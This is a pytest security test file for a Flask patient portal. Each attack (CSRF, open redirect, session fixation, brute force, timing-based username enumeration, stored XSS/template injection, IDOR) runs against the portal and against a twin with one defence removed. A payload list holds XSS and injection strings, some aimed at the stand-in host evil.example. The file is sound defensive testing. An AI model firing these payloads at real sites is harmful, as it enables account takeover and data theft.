"""Attacks, each also against a twin of the portal that lacks one named defence: the same bytes must break the twin.

A test that can not fail proves nothing (ARCHITECTURE §8). `weak` says which of the two stands before the attacker.
"""

from __future__ import annotations

from dataclasses import replace
from datetime import timedelta
from statistics import median
from time import process_time

import pytest
from flask import request

from portal.blueprints.address_book import views
from portal.domain.sign_in import actions, sessions, throttles
from portal.extensions import csrf
from portal.kernel import clock, database, passwords
from portal.web import access, security_headers, templates
from tests.factories import address_book
from tests.factories.announcements import an_announcement

twin = pytest.mark.parametrize("weak", [False, True], ids=["the portal", "its twin"])
PAYLOADS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "<svg/onload=alert(1)>",
    "javascript:alert(1)",
    '<a data-hx-post="/sign_in/out" data-hx-trigger="load">x</a>',
    '<div hx-get="//evil.example" hx-trigger="load">',
    "<form action=//evil.example><input name=a autofocus>",
    '<base href="//evil.example/">',
    "{{ 7*7 }}",
    "{% raw %}",
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    "' onmouseover='alert(1)",
    "</title><script>1</script>",
]


@twin
def test_a_forged_post_without_token(app, browser, patient, weak, monkeypatch):
    """S1. The twin checks no token."""
    made = browser(patient)
    page = made.get("/me/address_book/contacts/add")
    fields = dict(page.form("main form").form_values()) | {
        "name": "Mallory",
        "relationship": "-",
        "phone": "800-555-0134",
    }
    fields.pop("csrf_token")
    if weak:
        app.before_request_funcs[None].remove(_csrf_check(app))
    answer = made._send("post", "/me/address_book/contacts/add", data=fields)
    assert (answer.status_code == 303) == weak


def _csrf_check(app):
    """Flask-WTF's check, where it was bound."""
    assert csrf
    return next(check for check in app.before_request_funcs[None] if "csrf" in f"{check.__module__}".lower())


@twin
def test_a_post_from_another_site_with_a_stolen_token(app, browser, patient, weak):
    """S1. The twin does not look where a post comes from."""
    made = browser(patient)
    page = made.get("/me/address_book/contacts/add")
    fields = dict(page.form("main form").form_values()) | {
        "name": "Mallory",
        "relationship": "-",
        "phone": "800-555-0134",
    }
    if weak:
        app.before_request_funcs[None].remove(security_headers.refuse_foreign_posts)
    answer = made._send(
        "post", "/me/address_book/contacts/add", data=fields, headers={"Origin": "https://evil.example"}
    )
    assert (answer.status_code == 303) == weak


@twin
def test_a_link_that_leads_away_after_the_sign_in(browser, patient, weak, monkeypatch):
    """The twin believes any place to return to."""
    if weak:
        monkeypatch.setattr(access, "is_ours", lambda _: True)
    made = browser()
    form = dict(made.get("/sign_in/").form().form_values())
    form |= {"username": patient.username, "password": patient.password, "next": "//evil.example/"}
    answer = made._send("post", "/sign_in/", data=form)
    assert (answer.headers["Location"] == "//evil.example/") == weak


@twin
def test_a_planted_cookie(browser, patient, weak, monkeypatch):
    """Session fixation (A18). The twin keeps the token that the visitor came with."""
    victim, foe = browser(), browser()
    planted = "p" * 43
    for each in (victim, foe):
        each.client.set_cookie("sid", planted)
    if weak:
        monkeypatch.setattr(actions.secrets, "random_token", lambda: planted)
    page = victim.get("/sign_in/")
    victim._send(
        "post",
        "/sign_in/",
        data=dict(page.form().form_values()) | {"username": patient.username, "password": patient.password},
    )
    foe.client.set_cookie("sid", planted)
    assert (foe._send("get", "/me/").status_code == 200) == weak


@twin
def test_a_page_that_polls_keeps_the_session_alive(browser, patient, weak, monkeypatch):
    """S3. In the twin the page's own question counts as somebody being there."""
    whoever = access.whoever

    def counted():
        row = whoever()
        sessions.touch(row.session_id, clock.now())
        return row

    if weak:
        monkeypatch.setattr(access, "whoever", counted)
    made = browser(patient)
    for minutes in range(2, 20, 2):
        clock.shift(timedelta(minutes=minutes))
        made._send("get", "/sign_in/idle", headers={"HX-Request": "true"})
    assert (made._send("get", "/me/").status_code == 200) == weak


@twin
def test_a_thousand_guesses(browser, patient, weak, monkeypatch):
    """N1, N3. The twin counts no tries."""
    if weak:
        monkeypatch.setattr(throttles, "take_a_try", lambda *_: None)
    foe = browser()
    form = dict(foe.get("/sign_in/").form().form_values())
    looked_at = 0
    for number in range(40):
        fields = form | {
            "username": patient.username.swapcase() + " " * (number % 3),
            "password": f"guess number {number}",
        }
        looked_at += (
            foe._send("post", "/sign_in/", data=fields, headers={"X-Forwarded-For": f"10.0.0.{number}"}).status_code
            == 422
        )
    assert (looked_at > 10) == weak


@twin
def test_asking_the_clock_who_has_an_account(app, browser, patient, weak, monkeypatch):
    """N6. The twin spends no time on a name that does not exist. Medians of 7; three repeats must agree to fail.

    Processor time of all threads: what somebody who waits can learn of, without the noise of what else runs here.
    """
    monkeypatch.setattr(throttles, "take_a_try", lambda *_: None)
    passwords.use_cost(passwords.Cost(19456, 2, 1))
    if weak:
        monkeypatch.setattr(actions.passwords, "waste_time", lambda _: False)
    actions._rehash(patient.actor, patient.password)
    database.session().commit()
    foe = browser()
    form = dict(foe.get("/sign_in/").form().form_values())

    def took(name):
        began = process_time()
        foe._send("post", "/sign_in/", data=form | {"username": name, "password": "x" * 20})
        return process_time() - began

    def differs():
        pairs = [(took(patient.username), took("nobody")) for _ in range(7)]
        return abs(median(a for a, _ in pairs) - median(b for _, b in pairs)) > 0.005

    assert all(differs() for _ in range(3)) == weak


@twin
def test_words_that_want_to_be_markup(browser, patient, office, administrator, weak, monkeypatch):
    """I2, I3, I4. The twin does not escape."""
    for payload in PAYLOADS:
        address_book.a_contact(patient.person_id, name=payload, relationship=payload)
        an_announcement(office_id=office.id, author_id=administrator.staff_id, title=payload, body=payload)
    if weak:
        monkeypatch.setattr(templates.environment("en"), "autoescape", False)
        templates.environment("en").cache.clear()
    try:
        seen = [
            browser(patient)._send("get", url).get_data(as_text=True) for url in ("/me/", "/me/address_book/contacts/")
        ]
        seen.append(
            browser(administrator)._send("get", f"/office/{office.public_id}/announcements/").get_data(as_text=True)
        )
    finally:
        templates.environment("en").cache.clear()
    raw = [payload for payload in PAYLOADS if "<" in payload]
    assert any(payload in page for page in seen for payload in raw) == weak
    assert not any("49" in page and "{{ 7*7 }}" not in page for page in seen[1:2])


@twin
def test_an_owner_named_in_the_request(browser, patient, stranger, weak, monkeypatch):
    """Z2, Z4. The twin believes whose record a request says it is about."""
    entry = address_book.a_contact(patient.person_id, name="Ivy Castellane")
    if weak:
        monkeypatch.setattr(views, "viewer", lambda: replace(access.viewer(), person_id=int(request.args["person_id"])))
    page = browser(stranger)._send(
        "get", f"/me/address_book/contacts/{entry}/edit?person_id={patient.person_id}", headers={"X-Person": "1"}
    )
    assert (page.status_code == 200 and "Ivy Castellane" in page.get_data(as_text=True)) == weak
